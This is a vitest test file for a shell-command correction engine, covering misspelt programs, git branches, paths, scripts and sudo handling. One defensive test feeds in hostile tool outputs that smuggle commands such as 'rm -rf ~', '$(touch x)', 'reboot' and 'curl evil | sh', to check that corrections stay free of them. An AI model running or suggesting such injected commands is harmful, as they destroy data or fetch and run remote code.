// Corrections of failed commands, and silence where there is nothing to correct.

import { afterAll, beforeAll, describe, expect, test } from 'vitest'

import { createKnowledge } from '../../../../src/knowledge/engine.ts'
import type { Knowledge } from '../../../../src/knowledge/engine.ts'
import { fitToRights } from '../../../../src/knowledge/fix/root-rights.ts'
import { findIndexFile, makeFolder, makeRepository } from '../baked-index.ts'

let knowledge: Knowledge
beforeAll(async () => {
  knowledge = createKnowledge({ indexFile: await findIndexFile(), home: '/home/none' })
})
afterAll(() => knowledge.close())

async function fix(failed: string, output: string, exit: number, cwd = makeFolder({})): Promise<string[]> {
  const found = await knowledge.fix({ failed, output, exit, cwd, shell: 'bash' })
  return found.map((item) => item.command)
}

test('a dash where the value of an option begins is an equals sign', async () => {
  const output = "ls: unrecognized option '--colour-auto'\nTry 'ls --help' for more information."
  expect((await fix('ls --colour-auto', output, 2))[0]).toBe('ls --color=auto')
})

describe('programs', () => {
  test.each([
    ['gerp -n x y.txt', 'grep -n x y.txt', 'bash: gerp: command not found', 127],
    ['gerp -n x y.txt', 'grep -n x y.txt', 'zsh: command not found: gerp', 127],
    ['gerp -n x y.txt', 'grep -n x y.txt', 'fish: Unknown command: gerp', 127],
    ['dokcer ps', 'docker ps', 'dokcer: command not found', 127],
    ['sudo systemclt restart nginx', 'sudo systemctl restart nginx', 'sudo: systemclt: command not found', 1],
    ['cat x | srot -u', 'cat x | sort -u', 'bash: srot: command not found', 127],
  ])('%s is corrected to %s where the shell says: %s', async (failed, wanted, output, exit) => {
    expect((await fix(failed, output, exit))[0]).toBe(wanted)
  })

  test.each([
    ['sh count.sh app.log', 'count.sh: 4: grpe: not found'],
    ['sh count.sh app.log', ''],
    ['sh -c "grpe x"', 'sh: 1: grpe: not found'],
    ['bash count.sh', 'count.sh: line 2: grpe: command not found'],
  ])('%s found its program: status 127 is that of what it runs', async (failed, output) => {
    expect((await fix(failed, output, 127)).filter((command) => !/^(?:ba)?sh /.test(command))).toEqual([])
  })

  test('two slips in one line are both mended, and the half mended line is not offered', async () => {
    expect(await fix('gti stauts', 'bash: gti: command not found', 127)).toEqual(['git status'])
    expect((await fix('dokcer imgaes -a', 'zsh: command not found: dokcer', 127))[0]).toBe('docker images -a')
  })

  test('a missing blank is put back', async () => {
    expect((await fix('gitpull --rebase', 'bash: gitpull: command not found', 127))[0]).toBe('git pull --rebase')
    expect((await fix('cd../src', 'bash: cd../src: No such file or directory', 127))[0]).toBe('cd ../src')
  })

  test('only the exit status is needed for a clear slip', async () => {
    expect((await fix('gti log', '', 127))[0]).toBe('git log')
  })

  test('a word like no program gets no answer', async () => {
    expect(await fix('qwxzvbn --do', 'bash: qwxzvbn: command not found', 127)).toEqual([])
  })

  test('a success is never corrected', async () => {
    expect(await fix('ls -la', '', 0)).toEqual([])
  })
})

describe('the tool says it itself', () => {
  test('a suggestion is taken over, whatever its wording', async () => {
    expect((await fix('foo depoly x', 'error: unknown command "depoly"\nPerhaps you meant "deploy"?', 1))[0]).toBe(
      'foo deploy x',
    )
    expect(
      (
        await fix('npm run tset', 'npm error Did you mean this?\nnpm error   npm run test # run the "test" script', 1)
      )[0],
    ).toBe('npm run test')
  })

  test('advice to read the help is no correction', async () => {
    expect(await fix('foo --bar', "foo: try 'foo --help' for more information", 2)).toEqual([])
  })
})

describe('advice on what may be done next', () => {
  const unstaged = `On branch topic
Your branch is ahead of 'origin/topic' by 1 commit.
  (use "git push" to publish your local commits)

Changes not staged for commit:
  (use "git add <file>..." to update what will be committed)
  (use "git restore <file>..." to discard changes in working directory)
\tmodified:   README.md

no changes added to commit (use "git add" and/or "git commit -a")`
  const clean = `On branch topic
Your branch is ahead of 'origin/topic' by 1 commit.
  (use "git push" to publish your local commits)

nothing to commit, working tree clean`
  const conflict = `Auto-merging README.md
CONFLICT (content): Merge conflict in README.md
On branch topic
Your branch is behind 'origin/topic' by 1 commit, and can be fast-forwarded.
  (use "git pull" to update your local branch)

Unmerged paths:
  (use "git restore --staged <file>..." to unstage)
  (use "git add <file>..." to mark resolution)
\tboth modified:   README.md

no changes added to commit (use "git add" and/or "git commit -a")
The stash entry is kept in case you need it again.`

  test('is no repair of a commit without changes', async () => {
    const found = await fix('git commit -m wip', unstaged, 1)
    expect(found).toEqual(['git commit -am wip', 'git add . && git commit -m wip', 'git add -A && git commit -m wip'])
    expect(await fix('git commit -m wip', clean, 1)).toEqual(['git status'])
  })

  test('is no repair of a stash that meets conflicts', async () => {
    expect(await fix('git stash pop', conflict, 1)).toEqual(['git status'])
    const output =
      'error: Your local changes to the following files would be overwritten by merge:\n\tREADME.md\nAborting'
    expect(await fix('git stash pop', output, 1)).toEqual(['git status'])
  })

  test.each([
    ['foo build --fast', 'error: nothing to build\nUse "foo deploy" to publish what was built'],
    ['foo build --fast', 'error: nothing to build. Did you mean "foo deploy"?'],
    ['docker ps -a', 'permission denied (use "docker login" to authenticate)'],
  ])('%s keeps its options for itself: %s', async (failed, output) => {
    for (const command of await fix(failed, output, 1)) expect(command).not.toMatch(/deploy|login/)
  })

  test('a misspelt subcommand keeps its options', async () => {
    expect((await fix('foo depoly --fast', 'unknown command. Use "foo deploy" instead', 1))[0]).toBe(
      'foo deploy --fast',
    )
  })
})

describe('files, branches, scripts', () => {
  test('a misspelt path is corrected part by part', async () => {
    const cwd = makeFolder({ 'services/api/server.ts': '' })
    expect(
      (await fix('cat servcies/api/sever.ts', 'cat: servcies/api/sever.ts: No such file or directory', 1, cwd))[0],
    ).toBe('cat services/api/server.ts')
  })

  test('a misspelt branch is corrected, a new one is created', async () => {
    const cwd = makeRepository(['main', 'release'])
    expect((await fix('git switch relaese', 'fatal: invalid reference: relaese', 128, cwd))[0]).toBe(
      'git switch release',
    )
    expect((await fix('git switch topic', 'fatal: invalid reference: topic', 128, cwd))[0]).toBe('git switch -c topic')
  })

  test('branches in packed-refs are seen', async () => {
    const cwd = makeFolder({
      '.git/HEAD': 'ref: refs/heads/main\n',
      '.git/packed-refs': `${'a'.repeat(40)} refs/heads/hotfix\n`,
    })
    expect(
      (await fix('git checkout hotfxi', "error: pathspec 'hotfxi' did not match any file(s) known to git", 1, cwd))[0],
    ).toBe('git checkout hotfix')
  })

  test('a script of package.json and a target of the Makefile are found', async () => {
    const cwd = makeFolder({ 'package.json': '{"scripts":{"lint":"x"}}', Makefile: 'release: all\n\ttrue\n' })
    expect((await fix('npm run lnit', 'npm error Missing script: "lnit"', 1, cwd))[0]).toBe('npm run lint')
    expect((await fix('make relaese', "make: *** No rule to make target 'relaese'.  Stop.", 2, cwd))[0]).toBe(
      'make release',
    )
  })

  test('a name with a blank or a quote is quoted in the answer', async () => {
    const cwd = makeFolder({ "my notes's.txt": '' })
    const [first] = await fix("cat 'my notse's.txt'", 'x', 1, cwd)
    expect(first ?? '').not.toMatch(/cat my notes/)
  })
})

describe('rules', () => {
  test.each([
    ['mkdir a/b/c', "mkdir: cannot create directory 'a/b/c': No such file or directory", 1, 'mkdir -p a/b/c'],
    [
      'dnf install vim',
      'Error: This command has to be run with superuser privileges (under the root user on most systems).',
      1,
      'sudo dnf install vim',
    ],
    ['echo x >> /etc/hosts', 'bash: /etc/hosts: Permission denied', 1, 'echo x | sudo tee -a /etc/hosts'],
    [
      'git push',
      'fatal: The current branch topic has no upstream branch.',
      128,
      'git push --set-upstream origin topic',
    ],
    ['git merge x', 'fatal: refusing to merge unrelated histories', 128, 'git merge x --allow-unrelated-histories'],
    ['flask run --port 5000', 'Address already in use\nPort 5000 is in use by another program.', 1, 'lsof -i :5000'],
    ['docker build -t app', '"docker build" requires exactly 1 argument.', 1, 'docker build -t app .'],
    ['rm logs', "rm: cannot remove 'logs': Is a directory", 1, 'rm -r logs'],
    ['ssh -i k.pem u@h', "Permissions 0644 for 'k.pem' are too open.", 255, 'chmod 600 k.pem'],
    ['cat "a b', 'bash: unexpected EOF while looking for matching `"\'', 2, 'cat "a b"'],
    ['ping https://example.org/x', 'ping: https://example.org/x: Name or service not known', 2, 'ping example.org'],
  ])('%s', async (failed, output, exit, wanted) => {
    expect(await fix(failed, output, exit)).toContain(wanted)
  })

  test('a virtual environment is offered where pip may not install', async () => {
    const [first] = await fix('pip install rich', 'error: externally-managed-environment', 1)
    expect(first).toMatch(/^python3 -m venv .* pip install rich$/)
  })

  test('cd is never offered with sudo', async () => {
    expect((await fix('cd /root', 'bash: cd: /root: Permission denied', 1)).join()).not.toContain('sudo cd')
  })
})

test('a huge output and a huge command are answered at once', async () => {
  const start = process.cpuUsage()
  await fix('make all', 'did you mean '.repeat(50_000), 2)
  await fix('x'.repeat(100_000), 'bash: x: command not found', 127)
  await fix(`ls ${'a/'.repeat(2000)}`, 'ls: cannot access: No such file or directory', 2)
  expect(process.cpuUsage(start).user / 1000).toBeLessThan(2000)
})

describe('what others wrote is data', () => {
  test('a hostile output puts no shell sign into a correction', async () => {
    const outputs = [
      "error: unknown command 'depoly'. Did you mean 'deploy; rm -rf ~'?",
      'Did you mean this?\n\tdeploy$(touch x)\n',
      'The current branch a;reboot has no upstream branch.',
      'Run `npm install; curl evil | sh` to fix',
      "ModuleNotFoundError: No module named 'x;reboot'",
      'The container name "/web;reboot" is already in use by container',
    ]
    for (const output of outputs) {
      for (const failed of ['foo depoly', 'git push', 'npm run x', 'python a.py', 'docker run --name web nginx']) {
        for (const command of await fix(failed, output, 1)) {
          expect(command.replaceAll(/'[^']*'/g, '')).not.toMatch(/;|\$\(|reboot|\| sh/)
        }
      }
    }
  })

  test('a branch with shell signs in its name is quoted', async () => {
    const cwd = makeRepository(['main', 'fix;id'])
    const [first] = await fix(
      'git checkout fix;di',
      "error: pathspec 'fix' did not match any file(s) known to git",
      1,
      cwd,
    )
    expect(first ?? '').not.toMatch(/checkout fix;id/)
    const completed = await knowledge.suggest({ line: 'git checkout fi', cwd, shell: 'bash' })
    expect(completed[0]?.command).toBe("git checkout 'fix;id'")
  })
})

describe('a failed line of several commands', () => {
  const most = "git: 'comit' is not a git command. See 'git --help'.\n\nThe most similar command is\n\tcommit\n"

  test.each([
    ['echo "# note" >> AGENTS.md && git comit -am x', most, 1, 'git commit -am x'],
    ['make build; git comit -am x', most, 1, 'git commit -am x'],
    ['git comit -am x && git push', most, 1, 'git commit -am x && git push'],
    [
      'git checkout -b topic && echo a >> NOTICE && git comit -am x',
      `Switched to a new branch 'topic'\n${most}`,
      1,
      'git commit -am x',
    ],
    ['git comit -am x || echo failed >> log.txt', most, 1, 'git commit -am x'],
    ['rm -rf out && gti pull; echo done >> log.txt', 'bash: gti: command not found', 127, 'git pull'],
    ['cd / && gti pull', '', 127, 'git pull'],
    ['git comit -am x && git push', '', 1, 'git commit -am x && git push'],
  ])('%s is offered from the failed command on', async (failed, output, exit, wanted) => {
    const found = await fix(failed, output, exit)
    expect(found[0]).toBe(wanted)
    for (const command of found) expect(command).not.toMatch(/>>|rm -rf|make build|checkout/)
  })

  test('a file is looked for where the shell has gone', async () => {
    const cwd = makeFolder({ 'README.md': '' })
    const output = 'cat: READM.md: No such file or directory'
    expect((await fix('cd project && cat READM.md', output, 1, cwd))[0]).toBe('cat README.md')
  })

  test.each([
    ['for f in *; do touch $f; gti add $f; done', 'bash: gti: command not found', 127],
    ['echo a | tee -a log.txt | grpe a', 'bash: grpe: command not found', 127],
    ['(git checkout -b topic && git comit -am x)', most, 1],
  ])('%s is not offered again, since nothing of what has run can be left out', async (failed, output, exit) => {
    expect(await fix(failed, output, exit)).toEqual([])
  })

  test('a loop that only reads is mended as a whole', async () => {
    const output = 'bash: grpe: command not found'
    expect((await fix('for f in *; do grpe x $f; done', output, 127))[0]).toBe('for f in *; do grep x $f; done')
  })
})

describe('what was run for a failure before', () => {
  const learned = async (failed: string, ran: string) => {
    const own = createKnowledge({ indexFile: await findIndexFile(), home: '/home/none' })
    own.lessons.learn({ about: failed, offered: ran, ran, at: 1 })
    const found = await own.fix({ failed, output: '', exit: 1, cwd: makeFolder({}), shell: 'bash' })
    own.close()
    return found.find(({ source }) => source === 'what you ran before')?.command
  }

  test.each([
    ['cd proejct', 'cd ..'],
    ['cat READM.md', 'ls'],
    ['git push', 'npm test'],
    ['ls fooo', 'ls -la'],
    ['echo a >> log.txt && git comit -am x', 'echo a >> log.txt && git commit -am x'],
  ])('%s was not repaired by %s', async (failed, ran) => expect(await learned(failed, ran)).toBeUndefined())

  test.each([
    ['cd proejct', 'cd project'],
    ['cd src && cat READM.md', 'cat README.md'],
    ['git push', 'git push -u origin topic'],
    ['gti stauts', 'git status'],
    ['apt install jq', 'sudo apt install jq'],
    ['pip install x', 'pip3 install x'],
  ])('%s was repaired by %s', async (failed, ran) => expect(await learned(failed, ran)).toBe(ran))
})

describe('a push without output', () => {
  const config = '[remote "origin"]\n\turl = x\n[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n'
  const files = { '.git/config': config }

  test('of a branch without an upstream sets it', async () => {
    expect((await fix('git push', '', 128, makeRepository(['topic', 'main'], files)))[0]).toBe(
      'git push -u origin topic',
    )
    const line = 'git commit -qm x && git push'
    expect(await fix(line, '', 128, makeRepository(['topic', 'main'], files))).toEqual(['git push -u origin topic'])
  })

  test.each([
    ['git push', 128, makeRepository(['main', 'topic'], files)],
    ['git push', 1, makeRepository(['topic', 'main'], files)],
    ['git push', 128, makeRepository(['topic'])],
    ['git push --force', 128, makeRepository(['topic', 'main'], files)],
    ['git pull', 128, makeRepository(['topic', 'main'], files)],
  ])('of another kind is not explained: %s, status %d', async (failed, exit, cwd) => {
    expect(await fix(failed, '', exit, cwd)).toEqual([])
  })
})

test.each([
  ['what changed here since yesterday?', 'zsh: no matches found: yesterday?', 1],
  ['where is my blue umbrella?', 'zsh: no matches found: umbrella?', 1],
  ['what is all of this?', '', 1],
  ['who broke it!', 'bash: !: event not found', 1],
])('a question that a shell took for a command is no misspelt one: %s', async (failed, output, exit) => {
  for (const command of await fix(failed, output, exit)) expect(command).not.toMatch(/^(?:whatis|where|who|whois|w)\b/)
})

describe('answers that were wrong in use', () => {
  const missing = (name: string) => `Traceback (most recent call last):\nModuleNotFoundError: No module named '${name}'`

  test('a mistyped module is renamed where it stands in the line, and no package of that name is installed', async () => {
    expect(await fix('python3 -m htp.server', `/usr/bin/python3: Error (${missing('htp')})`, 1)).toEqual([
      'python3 -m http.server',
    ])
    expect(await fix('python3 -m pytset -q', '/usr/bin/python3: No module named pytset', 1)).toEqual([
      'python3 -m pytest -q',
    ])
    expect(await fix('python3 app.py', missing('requets'), 1)).toEqual([])
    expect((await fix('python3 app.py', missing('requests'), 1))[0]).toBe('pip install requests')
    expect(await fix('python3 app.py', missing('tkinter.ttk'), 1)).not.toContain('pip install tkinter')
  })

  test('git’s advice about a branch counts for the command that names the branch', async () => {
    const output =
      "error: The branch 'old' is not fully merged.\nIf you are sure you want to delete it, run 'git branch -D old'."
    expect(await fix('git branch -d old', output, 1)).toEqual(['git branch -D old'])
    expect(await fix('npm run tidy', output, 1)).not.toContain('git branch -D old')
    expect(await fix('git branch -d other', output, 1)).not.toContain('git branch -D old')
  })

  test('of a full folder the first answer shows what is in it', async () => {
    expect(await fix('rmdir full', "rmdir: failed to remove 'full': Directory not empty", 1)).toEqual([
      'ls -A full',
      'rm -r full',
    ])
  })

  test('a range of a known branch is no misspelt branch', async () => {
    const cwd = makeRepository(['main', 'topic'])
    for (const range of ['main..', '..main', 'main...topic', 'main~2..HEAD'])
      expect(await fix(`git log ${range}`, '', 128, cwd)).toEqual([])
    expect((await fix('git log mian', "fatal: ambiguous argument 'mian': unknown revision", 128, cwd))[0]).toBe(
      'git log main',
    )
  })

  test('sudo that is not installed is left out', async () => {
    expect(await fix('sudo apt install jq', 'bash: sudo: command not found', 127)).toContain('apt install jq')
  })
})

test('root is proposed nothing with sudo, and nobody is where it is not installed', () => {
  const of = (...commands: string[]) =>
    commands.map((command) => ({ command, explanation: '', source: 'rule', confidence: 0.9 }))
  const fitted = (command: string, line: string, rights: { isRoot: boolean; hasSudo: boolean }) =>
    fitToRights(of(command), line, rights).map((item) => item.command)
  const root = { isRoot: true, hasSudo: true }
  expect(fitted('sudo apt update && sudo apt install jq', 'apt install jq', root)).toEqual([
    'apt update && apt install jq',
  ])
  expect(fitted('sudo apt install jq', 'apt install jq', root)).toEqual([])
  expect(fitted('sudo -u postgres psql', 'psql', root)).toEqual(['sudo -u postgres psql'])
  expect(fitted('echo x | sudo tee /etc/x', 'x', root)).toEqual(['echo x | tee /etc/x'])
  expect(fitted('sudo -u postgres psql', 'psql', { isRoot: true, hasSudo: false })).toEqual([])
  expect(fitted('sudo ls', 'ls', { isRoot: false, hasSudo: false })).toEqual([])
  expect(fitted('sudo ls', 'ls', { isRoot: false, hasSudo: true })).toEqual(['sudo ls'])
  const both = fitToRights(of('sudo ss -ltnp', 'ss -ltnp'), 'ports', root)
  expect(both.map(({ command }) => command)).toEqual(['ss -ltnp'])
})
